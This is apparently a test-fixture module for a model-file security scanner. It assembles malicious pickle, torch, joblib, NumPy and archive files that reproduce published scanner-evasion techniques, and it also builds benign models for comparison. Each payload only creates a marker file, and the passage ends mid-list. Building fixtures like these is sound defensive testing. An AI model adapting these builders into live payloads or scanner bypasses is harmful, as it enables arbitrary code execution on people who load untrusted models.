"""Malicious and benign model files, built in memory, for the scanner's tests and benchmark.

Malicious files reproduce the published ways around pickle scanners (picklescan, modelscan,
fickling advisories 2023-2026; JFrog's "picklescan zero-days", 2025; Trail of Bits, "Never a
dill moment", 2021; fickling's test corpus; Sonatype's and HiddenLayer's write-ups). Every
payload is harmless: loaded by its victim (``loader``), it creates the file ``marker`` and
does nothing else (``touch``, ``open(marker, "w")``, ``Popen(["touch", marker])``, or, for
archive tricks, extraction writing to the marker's path). Nothing here loads a payload; the
builders only write bytes. A test that proves a payload really runs does so in a subprocess.

Benign files are real models and data written by scikit-learn, NumPy, pandas, torch, pickle
(protocols 0-5) and joblib (every compression): what a scanner must pass.

Both corpora are lists of small frozen records with a ``build`` callable, so the tests and
``benchmarks/bench_scan.py`` share them (the benchmark loads this file by path).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import os
import pickle
import shlex
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

# -- a small pickle assembler (opcodes as in CPython's Lib/pickletools.py) ------------------------
MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT, APPENDS, SETITEMS = b")", b"]", b"}", b"e", b"u"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, NONE = b"\x81", b"\x92", b"\x93", b"\x94", b"N"


def u(text: str) -> bytes:
    """BINUNICODE: a str (any unpickler accepts it, whatever the declared protocol)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def by(data: bytes) -> bytes:
    """BINBYTES: a bytes object."""
    return b"B" + struct.pack("<I", len(data)) + data


def i4(n: int) -> bytes:
    """BININT: a signed 32-bit int."""
    return b"J" + struct.pack("<i", n)


def glob(module: str, name: str) -> bytes:
    """GLOBAL: import ``module`` and fetch ``name`` (dotted names walk attributes when the
    stream declares protocol 4 or more)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both names pushed as literal strings."""
    return u(module) + u(name) + STACK_GLOBAL


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with REDUCE."""
    return func + tup(*args) + REDUCE


def stream(body: bytes, proto: int = 2) -> bytes:
    """One pickle stream: PROTO, the body, STOP."""
    return b"\x80" + bytes([proto]) + body + STOP


def framed(body: bytes) -> bytes:
    """A protocol-4 stream whose opcodes sit inside one FRAME, as pickle.dumps writes them."""
    inner = body + STOP
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner


def s0(text: str) -> bytes:
    """Protocol-0 STRING (a quoted line)."""
    if "'" in text or "\\" in text or "\n" in text:
        raise ValueError(f"cannot quote {text!r} as a protocol-0 STRING")
    return b"S'" + text.encode() + b"'\n"


# -- what a payload does when it runs -----------------------------------------------------------
def touch(marker: Path) -> str:
    """Shell command that creates the marker."""
    return f"touch {shlex.quote(str(marker))}"


def py_open(marker: Path) -> str:
    """Python statement that creates the marker."""
    return f"open({str(marker)!r}, 'w').close()"


class Reduce:
    """An object that pickles as ``func(*args)``: what an attacker's ``__reduce__`` returns.

    Pickling it (pickle, joblib, torch.save, np.save) writes a reference to ``func`` and its
    arguments; nothing is called until a victim loads the result.
    """

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.func, self.args)


def _system(marker: Path) -> Reduce:
    return Reduce(os.system, touch(marker))


# -- records ------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Payload:
    """One malicious file.

    Attributes:
        name: stable id (test ids, benchmark rows).
        technique: what it exercises, in a few words.
        build: writes the file's bytes for a given marker path.
        filename: the name it is saved under (extensions lie on purpose in some cases).
        loader: how a victim runs it: ``pickle`` (pickle.load), ``joblib`` (joblib.load),
            ``torch`` (torch.load with weights_only=False), ``numpy`` (np.load with
            allow_pickle=True), ``extract`` (extraction that trusts member names: tarfile without
            a filter, naive unzip code; Python's zipfile strips such names),
            ``tarfile`` / ``zipfile`` (a loader that unpickles every archive member it
            finds), ``decompress`` (decompress, then pickle.load),
            ``registry`` (needs copyreg extension codes registered), ``debugger`` (runs once
            the user continues in pdb), ``compile`` (needs a C++ compiler), ``none`` (a
            denial of service, no marker).
        gadget: the code-execution callable it imports, when it names one: a scanner should
            call the file unsafe and name it.
        rules: Bastion rule ids the scan must report.
        source: the advisory or write-up the technique comes from.
        dos: a resource-exhaustion file (scanned with small limits; no marker).
    """

    name: str
    technique: str
    build: Callable[[Path], bytes]
    filename: str = "model.pkl"
    loader: str = "pickle"
    gadget: str | None = None
    rules: tuple[str, ...] = ()
    source: str = ""
    dos: bool = False


@dataclass(frozen=True)
class Benign:
    """One benign file: ``build()`` returns its bytes; ``filename`` its name."""

    name: str
    build: Callable[[], bytes]
    filename: str = "model.pkl"
    tags: tuple[str, ...] = field(default=())


# -- malicious builders: direct gadgets ---------------------------------------------------------
def _gadget(
    module: str, name: str, args: Callable[[Path], tuple[bytes, ...]], proto: int = 2
) -> Callable[[Path], bytes]:
    """``module.name(*args(marker))`` as one REDUCE."""

    def build(marker: Path) -> bytes:
        body = call(glob(module, name), *args(marker))
        return framed(body) if proto >= 4 else stream(body, proto)

    return build


def _cmd(marker: Path) -> tuple[bytes, ...]:
    return (u(touch(marker)),)


def _argv(marker: Path) -> tuple[bytes, ...]:
    return (lst(u("touch"), u(str(marker))),)


def _src(marker: Path) -> tuple[bytes, ...]:
    return (u(py_open(marker)),)


def _getattr_chain(marker: Path) -> bytes:
    # getattr(__import__("os"), "system")("touch ...")
    os_mod = call(glob("builtins", "__import__"), u("os"))
    system = call(glob("builtins", "getattr"), os_mod, u("system"))
    return stream(call(system, u(touch(marker))))


def _compile_exec(marker: Path) -> bytes:
    code = call(glob("builtins", "compile"), u(py_open(marker)), u("<payload>"), u("exec"))
    return stream(call(glob("builtins", "exec"), code))


def _attrgetter(marker: Path) -> bytes:
    # operator.attrgetter("system")(importlib.import_module("os"))("touch ...")
    getter = call(glob("operator", "attrgetter"), u("system"))
    os_mod = call(glob("importlib", "import_module"), u("os"))
    return stream(call(getter + tup(os_mod) + REDUCE, u(touch(marker))))


def _methodcaller(module: str) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        caller = call(glob(module, "methodcaller"), u("system"), u(touch(marker)))
        os_mod = call(glob("builtins", "__import__"), u("os"))
        return stream(call(caller, os_mod))

    return build


def _partial(marker: Path) -> bytes:
    bound = call(glob("functools", "partial"), glob("builtins", "exec"), u(py_open(marker)))
    return stream(bound + EMPTY_TUPLE + REDUCE)


def _resolve_name(marker: Path) -> bytes:
    system = call(glob("pkgutil", "resolve_name"), u("os:system"))
    return stream(call(system, u(touch(marker))))


def _method(module: str, cls: str, method: str, ctor_args: tuple[bytes, ...], arg: bytes) -> bytes:
    """``module.cls.method(module.cls(*ctor_args), arg)``: a dotted GLOBAL (protocol 4) that
    fetches an unbound method, called on an instance built in the stream."""
    inst = call(glob(module, cls), *ctor_args)
    return framed(call(glob(module, f"{cls}.{method}"), inst, arg))


def _bdb(marker: Path) -> bytes:
    return _method("bdb", "Bdb", "run", (), u(py_open(marker)))


def _trace(marker: Path) -> bytes:
    inst = call(glob("trace", "Trace"), i4(0), i4(0))
    return framed(call(glob("trace", "Trace.runctx"), inst, u(py_open(marker)), dct(), dct()))


def _interactive(marker: Path) -> bytes:
    return _method("code", "InteractiveInterpreter", "runsource", (), u(py_open(marker)))


def _generic_browser(marker: Path) -> bytes:
    return _method(
        "webbrowser", "GenericBrowser", "open", (lst(u("touch"), u("%s")),), u(str(marker))
    )


def _lib2to3(marker: Path) -> bytes:
    nested = pickle.dumps(_system(marker), protocol=2)
    return _method("lib2to3.pgen2.grammar", "Grammar", "loads", (), by(nested))


def _nested_pickle(module: str) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        nested = pickle.dumps(_system(marker), protocol=2)
        return stream(call(glob(module, "loads"), by(nested)))

    return build


def _ensurepip(marker: Path) -> bytes:
    # _run_pip formats additional_paths into the code it runs: a string is code
    injected = f"[__import__('os').system({touch(marker)!r})]"
    return stream(call(glob("ensurepip", "_run_pip"), lst(u("--version")), u(injected)))


def _cpp_extension(marker: Path) -> bytes:
    source = (
        "#include <cstdio>\n"
        f'static int ran = [] {{ std::fclose(std::fopen("{marker}", "w")); return 0; }}();\n'
    )
    return stream(call(glob("torch.utils.cpp_extension", "load_inline"), u("payload"), u(source)))


def _fork_exec(marker: Path) -> bytes:
    # _posixsubprocess.fork_exec as Python 3.11's multiprocessing.util.spawnv_passfds calls it
    args = (
        lst(by(b"touch"), by(str(marker).encode())),
        lst(by(b"/usr/bin/touch"), by(b"/bin/touch")),
        b"\x88",  # close_fds
        EMPTY_TUPLE,  # pass_fds
        NONE,  # cwd
        NONE,  # env
        *(i4(-1) for _ in range(6)),
        i4(0),  # errpipe_read: the child closes it (stdin: harmless there)
        i4(1000),  # errpipe_write (>= 3; the child writes there only when exec fails)
        b"\x89",  # restore_signals
        b"\x89",  # start_new_session
        i4(-1),  # process_group
        NONE,
        NONE,
        NONE,
        i4(-1),  # umask
        NONE,  # preexec_fn
        b"\x89",  # use vfork
    )
    return stream(call(glob("_posixsubprocess", "fork_exec"), *args))


def _asyncio(marker: Path) -> bytes:
    coro = call(glob("asyncio", "create_subprocess_shell"), u(touch(marker)))
    return stream(call(glob("asyncio", "run"), coro))


def _ctypes(marker: Path) -> bytes:
    libc = call(glob("ctypes", "CDLL"), NONE)
    system = call(glob("builtins", "getattr"), libc, u("system"))
    return stream(call(system, by(touch(marker).encode())))


def _code_object(marker: Path) -> bytes:
    return by(marshal.dumps(compile(py_open(marker), "<payload>", "exec")))


def _function_type(marker: Path) -> bytes:
    code = call(glob("marshal", "loads"), _code_object(marker))
    func = call(glob("types", "FunctionType"), code, dct())
    return stream(func + EMPTY_TUPLE + REDUCE)


def _newobj(marker: Path) -> bytes:
    code = call(glob("marshal", "loads"), _code_object(marker))
    func = glob("types", "FunctionType") + tup(code, dct()) + NEWOBJ
    return stream(func + EMPTY_TUPLE + REDUCE)


def _newobj_ex(marker: Path) -> bytes:
    code = call(glob("marshal", "loads"), _code_object(marker))
    func = glob("types", "FunctionType") + tup(code, dct()) + dct() + NEWOBJ_EX
    return framed(func + EMPTY_TUPLE + REDUCE)


def _build_on_import(marker: Path) -> bytes:
    # BUILD on the imported class plants a __setstate__ (class attributes are not bound, so
    # inst.__setstate__(state) calls FileHandler(state)); a later BUILD on an instance runs it
    plant = (
        glob("fractions", "Fraction")
        + tup(NONE, dct((u("__setstate__"), glob("logging", "FileHandler"))))
        + BUILD
        + POP
    )
    inst = call(glob("fractions", "Fraction"), i4(1))
    return stream(plant + inst + u(str(marker)) + BUILD)


def _ext(code: int) -> Callable[[Path], bytes]:
    """REDUCE on an extension code (EXT1 / EXT2 / EXT4 by its size): what it imports is up to
    the loading process's copyreg registry."""
    if code < 256:
        op = b"\x82" + bytes([code])
    elif code < 65536:
        op = b"\x83" + struct.pack("<H", code)
    else:
        op = b"\x84" + struct.pack("<i", code)

    def build(marker: Path) -> bytes:
        return stream(call(op, u(touch(marker))))

    return build


def _protocol(proto: int) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        return pickle.dumps(_system(marker), protocol=proto)

    return build


def _text_p0(marker: Path) -> bytes:
    # hand-written protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE, STOP; all printable
    return b"cos\nsystem\n(" + s0(touch(marker)) + b"tR."


def _inst(marker: Path) -> bytes:
    return b"(" + s0(touch(marker)) + b"ios\nsystem\n."


def _obj(marker: Path) -> bytes:
    return b"(cos\nsystem\n" + s0(touch(marker)) + b"o."


def _pty_obj(marker: Path) -> bytes:
    # fickling's pty.spawn example (OBJ form, result never used)
    return b"(cpty\nspawn\n(lp0\nVtouch\np1\naV" + str(marker).encode() + b"\np2\nao."


def _memo(marker: Path) -> bytes:
    # "os" and "system" are memoized, popped, then fetched back for STACK_GLOBAL
    return stream(
        u("os")
        + b"q\x00"
        + u("system")
        + b"q\x01"
        + POP
        + POP
        + b"h\x00h\x01"
        + STACK_GLOBAL
        + tup(u(touch(marker)))
        + REDUCE,
        proto=4,
    )


def _memoize_get(marker: Path) -> bytes:
    # MEMOIZE (protocol 4) stores, protocol-0 GET fetches by a decimal line
    return stream(
        u("posix")
        + MEMOIZE
        + POP
        + u("system")
        + MEMOIZE
        + POP
        + b"g0\ng1\n"
        + STACK_GLOBAL
        + tup(u(touch(marker)))
        + REDUCE,
        proto=4,
    )


def _memo_overwrite(marker: Path) -> bytes:
    # slot 0 first holds "numpy", then "os": a scanner that keeps the first value sees numpy
    return stream(
        u("numpy")
        + b"q\x00"
        + POP
        + u("os")
        + b"q\x00"
        + POP
        + b"h\x00"
        + u("system")
        + STACK_GLOBAL
        + tup(u(touch(marker)))
        + REDUCE,
        proto=4,
    )


def _computed_name(marker: Path) -> bytes:
    module = call(glob("builtins", "str"), u("os"))  # an allowed call returns the name
    return stream(module + u("system") + STACK_GLOBAL + tup(u(touch(marker))) + REDUCE, 4)


def _two_streams(marker: Path) -> bytes:
    return pickle.dumps({"weights": [0.5, 1.5]}, protocol=2) + pickle.dumps(_system(marker), 2)


def _parse_error(marker: Path) -> bytes:
    # the gadget runs, then the unpickler hits an unknown opcode: pickle.load raises after it
    return b"\x80\x02" + call(glob("os", "system"), u(touch(marker))) + b"\xff" + STOP


def _truncated(marker: Path) -> bytes:
    return (b"\x80\x02" + call(glob("os", "system"), u(touch(marker))) + u("padding"))[:-3]


def _text_parse_error(marker: Path) -> bytes:
    # all printable: the protocol-0 payload, then "!" (not an opcode) where STOP should be
    return _text_p0(marker)[:-1] + b"!"


def _text_truncated(marker: Path) -> bytes:
    return _text_p0(marker)[:-1]


def _unlisted_first_opcode(marker: Path) -> bytes:
    # SHORT_BINSTRING + POP first: every byte printable, no PROTO; pickle.load runs it
    return b"U\x01x0" + _text_p0(marker)


def _second_stream_unlisted(marker: Path) -> bytes:
    return pickle.dumps([1, 2, 3], protocol=2) + _unlisted_first_opcode(marker)


def _dotted_through_allowed(
    module: str, attr: str, args: Callable[[Path], bytes]
) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        return framed(call(glob(module, attr), args(marker)))

    return build


def _joblib_region_opcodes(marker: Path) -> bytes:
    """A joblib array wrapper whose raw bytes are opcodes: joblib.load reads them as uint8
    data; pickle.load (or pandas.read_pickle) executes them."""
    ops = call(glob("os", "system"), u(touch(marker))) + POP
    dtype = (
        call(glob("numpy", "dtype"), u("u1"), b"\x89", b"\x88")
        + tup(i4(3), u("|"), NONE, NONE, NONE, i4(-1), i4(-1), i4(0))
        + BUILD
    )
    state = dct(
        (u("subclass"), glob("numpy", "ndarray")),
        (u("shape"), tup(i4(len(ops)))),
        (u("order"), u("C")),
        (u("dtype"), dtype),
        (u("allow_mmap"), b"\x89"),
        (u("numpy_array_alignment_bytes"), NONE),
    )
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return b"\x80\x04" + wrapper + state + BUILD + ops + STOP


def _torch_zip(obj: Any, **kw: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _zip_pickle_no_proto(marker: Path) -> bytes:
    # a torch archive whose data.pkl starts with SHORT_BINUNICODE (no PROTO opcode)
    benign = _torch_zip({"w": [1.0]})
    body = b"\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(touch(marker))])
    body += touch(marker).encode() + b"\x85R."
    return _replace_member(benign, "data.pkl", body)


def _replace_member(archive: bytes, basename: str, data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(archive))
    return _zip(
        {
            i.filename: data if i.filename.endswith("/" + basename) else src.read(i)
            for i in src.infolist()
        }
    )


def _torch_payload(marker: Path) -> bytes:
    return _torch_zip({"weights": [1.0, 2.0], "hook": _system(marker)})


def _torch_legacy(marker: Path) -> bytes:
    return _torch_zip({"hook": _system(marker)}, _use_new_zipfile_serialization=False)


def _zip_other_member(marker: Path) -> bytes:
    return _zip({"model/config.json": b"{}", "model/weights.bin": pickle.dumps(_system(marker))})


def _zip_flag(flag: int, central: bool = True) -> Callable[[Path], bytes]:
    """Set general-purpose ``flag`` bits on data.pkl's local header (and, with ``central``,
    its central-directory entry: torch reads the flags from there)."""

    def build(marker: Path) -> bytes:
        data = bytearray(_torch_payload(marker))
        zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
        info = next(i for i in zf.infolist() if i.filename.endswith("/data.pkl"))
        local = info.header_offset
        data[local + 6 : local + 8] = struct.pack("<H", info.flag_bits | flag)
        if central:
            entry = _central_offset(bytes(data), info.filename)
            data[entry + 8 : entry + 10] = struct.pack("<H", info.flag_bits | flag)
        return bytes(data)

    return build


def _central_offset(data: bytes, name: str) -> int:
    needle = name.encode()
    pos = -1
    while True:
        pos = data.find(b"PK\x01\x02", pos + 1)
        if pos < 0:
            raise ValueError(f"no central entry for {name}")
        n = struct.unpack("<H", data[pos + 28 : pos + 30])[0]
        if data[pos + 46 : pos + 46 + n] == needle:
            return pos


def _zip_bad_crc(marker: Path) -> bytes:
    data = bytearray(_torch_payload(marker))
    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    bad = struct.pack("<I", info.CRC ^ 0xDEADBEEF)
    data[info.header_offset + 14 : info.header_offset + 18] = bad
    central = _central_offset(bytes(data), info.filename)
    data[central + 16 : central + 20] = bad
    return bytes(data)


def _zip_local_name(marker: Path) -> bytes:
    # the local header names another file than the central directory (same length)
    data = bytearray(_torch_payload(marker))
    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    start = info.header_offset + 30
    name = data[start : start + len(info.filename)]
    data[start : start + len(name)] = bytes(name).replace(b"data.pkl", b"data.pkx")
    return bytes(data)


def _zip_in_zip(marker: Path) -> bytes:
    inner = _zip({"payload.pkl": pickle.dumps(_system(marker))}, zipfile.ZIP_DEFLATED)
    return _zip({"outer/inner.zip": inner})


def _tar(members: list[tarfile.TarInfo], contents: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for info in members:
            data = contents.get(info.name)
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return buf.getvalue()


def _tar_pickle(marker: Path) -> bytes:
    return _tar([tarfile.TarInfo("model/model.pkl")], {"model/model.pkl": _protocol(4)(marker)})


def _tar_no_magic(marker: Path) -> bytes:
    """A tar whose headers lack the "ustar" magic (pre-POSIX v7 layout): tarfile reads it."""
    data = bytearray(_tar_pickle(marker))
    header = data[:512]
    header[257:265] = b"\0" * 8
    header[148:156] = b" " * 8
    checksum = sum(header)
    header[148:156] = b"%06o\0 " % checksum
    data[:512] = header
    return bytes(data)


def _tar_traversal(marker: Path) -> bytes:
    # extracting into <marker's folder>/extract writes ../<marker name>: the marker
    name = f"../{marker.name}"
    return _tar([tarfile.TarInfo(name)], {name: b""})


def _tar_absolute(marker: Path) -> bytes:
    name = str(marker)
    return _tar([tarfile.TarInfo(name)], {name: b""})


def _tar_symlink(marker: Path) -> bytes:
    # "escape" -> the marker's folder; then "escape/<marker name>" writes through the link
    link = tarfile.TarInfo("escape")
    link.type = tarfile.SYMTYPE
    link.linkname = str(marker.parent)
    inner = f"escape/{marker.name}"
    return _tar([link, tarfile.TarInfo(inner)], {inner: b""})


def _zip_traversal(marker: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo(f"../{marker.name}"), b"")
    return buf.getvalue()


def _zip_absolute(marker: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo(str(marker)), b"")
    return buf.getvalue()


def _npy_object(marker: Path) -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.array([1.5, _system(marker)], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _npy_descr_spelled_out(marker: Path) -> bytes:
    """An object .npy whose header says ``'descr': 'object'`` (numpy accepts any dtype
    spelling there) instead of ``'|O'``."""
    body = _npy_object(marker)
    hlen = struct.unpack("<H", body[8:10])[0]
    header = body[10 : 10 + hlen].replace(b"'|O'", b"'object'")
    header = header.rstrip(b" \n")
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + b" " * pad + b"\n"
    return body[:8] + struct.pack("<H", len(header)) + header + body[10 + hlen :]


def _npz(marker: Path) -> bytes:
    buf = io.BytesIO()
    np.savez(buf, weights=np.arange(4.0), extra=np.array([_system(marker)], dtype=object))
    return buf.getvalue()


def _polyglot_pickle_first(marker: Path) -> bytes:
    # torch.load sees no zip magic at byte 0 and unpickles; zip tools see a clean archive
    return pickle.dumps(_system(marker), protocol=2) + _torch_zip({"w": [1.0]})


def _polyglot_zip_last(marker: Path) -> bytes:
    # a clean pickle first; a zip reader (which reads from the end) finds a malicious archive
    return pickle.dumps({"w": [1.0]}, protocol=2) + _torch_payload(marker)


def _joblib(compress: Any) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        import joblib

        buf = io.BytesIO()
        joblib.dump({"coef": np.arange(3.0), "hook": _system(marker)}, buf, compress=compress)
        return buf.getvalue()

    return build


def _joblib_object_array(marker: Path) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump({"labels": np.array(["a", _system(marker)], dtype=object)}, buf)
    return buf.getvalue()


def _joblib_zf(marker: Path) -> bytes:
    # joblib < 0.10's z-file: "ZF", the length in hex padded to 19 characters, zlib data
    from joblib.numpy_pickle_compat import write_zfile

    buf = io.BytesIO()
    write_zfile(buf, pickle.dumps(_system(marker), protocol=2))
    return buf.getvalue()


def _joblib_lzma_small_dict(marker: Path) -> bytes:
    """An .lzma joblib file with a 4 KiB dictionary: its header is 5d 00 10 00 00, which
    joblib detects by its 2-byte prefix 5d 00."""
    data = pickle.dumps(_system(marker), protocol=4)
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=filters)


def _gzip_bomb(marker: Path) -> bytes:
    return gzip.compress(b"\0" * (8 << 20), compresslevel=9)


def _zip_bomb(marker: Path) -> bytes:
    return _zip({"archive/data.pkl": b"\0" * (8 << 20)}, zipfile.ZIP_DEFLATED)


def _compressed(kind: str) -> Callable[[Path], bytes]:
    def build(marker: Path) -> bytes:
        data = pickle.dumps(_system(marker), protocol=4)
        if kind == "bz2":
            return bz2.compress(data)
        if kind == "xz":
            return lzma.compress(data)
        return gzip.compress(data)

    return build


_C = "GHSA-7q5r-7gvp-wc82 / GHSA-w8jq-xcqf-f792 (picklescan zip tricks, 2025)"
_JF = "JFrog, picklescan zero-days CVE-2025-10155/10156/10157 (2025)"
_PS = "picklescan advisories 2025 (mmaitre314/picklescan#48, #49, #53, #54, #65)"

MALICIOUS: list[Payload] = [
    # direct gadgets
    Payload(
        "os-system",
        "REDUCE os.system",
        _gadget("os", "system", _cmd),
        gadget="os.system",
        rules=("SC002",),
        source="Trail of Bits 2021",
    ),
    Payload(
        "posix-system",
        "REDUCE posix.system (what pickle writes for os.system)",
        _gadget("posix", "system", _cmd),
        gadget="posix.system",
        rules=("SC002",),
        source="CVE-2025-10155 write-ups",
    ),
    Payload(
        "subprocess-popen",
        "REDUCE subprocess.Popen(argv)",
        _gadget("subprocess", "Popen", _argv),
        gadget="subprocess.Popen",
    ),
    Payload(
        "subprocess-check-call",
        "REDUCE subprocess.check_call(argv)",
        _gadget("subprocess", "check_call", _argv),
        gadget="subprocess.check_call",
    ),
    Payload(
        "subprocess-getoutput",
        "REDUCE subprocess.getoutput(shell)",
        _gadget("subprocess", "getoutput", _cmd, proto=4),
        gadget="subprocess.getoutput",
    ),
    Payload(
        "builtins-exec",
        "REDUCE builtins.exec(source)",
        _gadget("builtins", "exec", _src),
        gadget="builtins.exec",
    ),
    Payload(
        "builtins-eval",
        "REDUCE builtins.eval(expression)",
        _gadget("builtins", "eval", _src),
        gadget="builtins.eval",
    ),
    Payload(
        "builtins-compile-exec", "exec(compile(source))", _compile_exec, gadget="builtins.compile"
    ),
    Payload(
        "builtins-open",
        "REDUCE builtins.open(marker, 'w')",
        _gadget("builtins", "open", lambda m: (u(str(m)), u("w"))),
        gadget="builtins.open",
    ),
    Payload(
        "py2-builtin-eval",
        "__builtin__.eval (protocol <= 2 maps it to builtins)",
        _gadget("__builtin__", "eval", _src),
        gadget="__builtin__.eval",
    ),
    Payload(
        "getattr-import-chain",
        "getattr(__import__('os'), 'system')(cmd)",
        _getattr_chain,
        gadget="builtins.getattr",
        rules=("SC008",),
    ),
    Payload(
        "operator-attrgetter",
        "operator.attrgetter + importlib.import_module",
        _attrgetter,
        gadget="operator.attrgetter",
        rules=("SC008",),
        source="picklescan#25",
    ),
    Payload(
        "operator-methodcaller",
        "operator.methodcaller('system', cmd)(os)",
        _methodcaller("operator"),
        gadget="operator.methodcaller",
        rules=("SC008",),
        source="GHSA-m273-6v24-x4m4",
    ),
    Payload(
        "_operator-methodcaller",
        "_operator alias (leading underscore)",
        _methodcaller("_operator"),
        gadget="_operator.methodcaller",
        rules=("SC008",),
        source="GHSA-955r-x9j8-7rhh",
    ),
    Payload(
        "functools-partial",
        "functools.partial(exec, source)()",
        _partial,
        gadget="functools.partial",
        rules=("SC008",),
        source="fickling#210",
    ),
    Payload(
        "pkgutil-resolve-name",
        "pkgutil.resolve_name('os:system')",
        _resolve_name,
        gadget="pkgutil.resolve_name",
        source="GHSA-vvpj-8cmc-gx39",
    ),
    Payload(
        "importlib-import-module",
        "importlib.import_module + attrgetter",
        _attrgetter,
        gadget="importlib.import_module",
    ),
    # standard-library callables the peers did not list
    Payload(
        "pydoc-pipepager",
        "pydoc.pipepager(text, shell command)",
        _gadget("pydoc", "pipepager", lambda m: (u(""), u(touch(m)))),
        gadget="pydoc.pipepager",
        source=_PS,
    ),
    Payload(
        "timeit-timeit",
        "timeit.timeit(stmt, setup=source)",
        _gadget("timeit", "timeit", lambda m: (u("pass"), u(py_open(m)))),
        gadget="timeit.timeit",
        source="GHSA-v7x6-rv5q-mhwc",
    ),
    Payload(
        "cprofile-run",
        "cProfile.run(source)",
        _gadget("cProfile", "run", _src),
        gadget="cProfile.run",
        source="GHSA-9w88-8rmg-7g2p",
    ),
    Payload(
        "cprofile-runctx",
        "cProfile.runctx(source, {}, {})",
        _gadget("cProfile", "runctx", lambda m: (u(py_open(m)), dct(), dct())),
        gadget="cProfile.runctx",
        source="GHSA-9w88-8rmg-7g2p",
    ),
    Payload(
        "pdb-run",
        "pdb.run(source) (runs once the debugger continues)",
        _gadget("pdb", "run", _src),
        loader="debugger",
        gadget="pdb.run",
        source=_PS,
    ),
    Payload(
        "bdb-run-dotted",
        "dotted GLOBAL bdb.Bdb.run on an instance (protocol 4)",
        _bdb,
        gadget="bdb.Bdb.run",
        source="fickling#210",
    ),
    Payload(
        "trace-runctx-dotted",
        "trace.Trace.runctx (dotted method)",
        _trace,
        gadget="trace.Trace.runctx",
        source="GHSA-g344-hcph-8vgg",
    ),
    Payload(
        "code-interactive-interpreter",
        "code.InteractiveInterpreter.runsource",
        _interactive,
        gadget="code.InteractiveInterpreter.runsource",
        source=_PS,
    ),
    Payload(
        "idlelib-calltip-get-entity",
        "idlelib.calltip.get_entity(expression) -> eval",
        _gadget("idlelib.calltip", "get_entity", _src),
        gadget="idlelib.calltip.get_entity",
        source="GHSA-6w4w-5w54-rjvr (idlelib get_entity)",
    ),
    Payload(
        "lib2to3-grammar-loads",
        "lib2to3 Grammar.loads(nested pickle)",
        _lib2to3,
        gadget="lib2to3.pgen2.grammar.Grammar.loads",
        source="GHSA-f54q-57x4-jg88",
    ),
    Payload(
        "ensurepip-run-pip",
        "ensurepip._run_pip formats a string into code",
        _ensurepip,
        gadget="ensurepip._run_pip",
        source="GHSA-xp4f-hrf8-rxw7",
    ),
    Payload(
        "venv-create",
        "venv.create(marker) creates a folder tree",
        _gadget("venv", "create", lambda m: (u(str(m)),)),
        gadget="venv.create",
        source="GHSA-vqmv-47xg-9wpr",
    ),
    Payload(
        "distutils-write-file",
        "distutils.file_util.write_file",
        _gadget("distutils.file_util", "write_file", lambda m: (u(str(m)), EMPTY_LIST)),
        gadget="distutils.file_util.write_file",
        source="CVE-2025-10155",
    ),
    Payload(
        "setuptools-distutils-write-file",
        "setuptools' vendored distutils (an alias)",
        _gadget("setuptools._distutils.file_util", "write_file", lambda m: (u(str(m)), EMPTY_LIST)),
        gadget="setuptools._distutils.file_util.write_file",
    ),
    Payload(
        "torch-cpp-extension-load-inline",
        "torch.utils.cpp_extension.load_inline",
        _cpp_extension,
        loader="compile",
        gadget="torch.utils.cpp_extension.load_inline",
    ),
    Payload(
        "torch-collect-env-run",
